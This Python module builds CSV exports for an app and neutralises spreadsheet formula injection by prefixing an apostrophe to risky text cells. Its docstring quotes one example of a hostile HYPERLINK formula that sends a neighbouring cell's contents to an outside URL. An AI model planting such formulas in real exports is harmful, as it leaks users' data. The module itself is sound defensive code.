"""Every CSV the app writes, in one place (docs/ARCHITECTURE.md, "Safety"). A cell is whatever a visitor typed or a
model answered: a spreadsheet that opens the file runs a cell starting with `=`, `+`, `-` or `@` as a formula
(`=HYPERLINK("http://…?d="&B2,"Open")` sends the next cell away), and tab or carriage return can hide such a start.
OWASP's rule (CSV injection): such a text cell gets a leading apostrophe, which spreadsheets show as text and do
not run. Numbers stay numbers (a negative cost is not a formula). JSON exports are data and stay as they are."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutral(value: Any) -> Any:
    """A text cell a spreadsheet would run as a formula, made text (a leading apostrophe); anything else as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_bytes(table: pd.DataFrame | Sequence[Mapping[str, Any]], preamble: Iterable[str] = ()) -> bytes:
    """A table (a DataFrame, or rows with the first row's keys, written as they are: no float for a missing int) as
    UTF-8 CSV with a header, every text cell and column name neutral. RFC 4180 line ends, so a carriage return in a
    cell is quoted. `preamble` lines go first, one cell each (e.g. "# 1: side label"), neutral too."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    for line in preamble:
        writer.writerow([neutral(line)])
    if isinstance(table, pd.DataFrame):
        table.map(neutral).rename(columns=lambda c: neutral(str(c))).to_csv(out, index=False, lineterminator="\r\n")
    elif table:
        columns = list(table[0])
        writer.writerow([neutral(str(c)) for c in columns])
        writer.writerows([["" if row.get(c) is None else neutral(row.get(c)) for c in columns] for row in table])
    return out.getvalue().encode("utf-8")
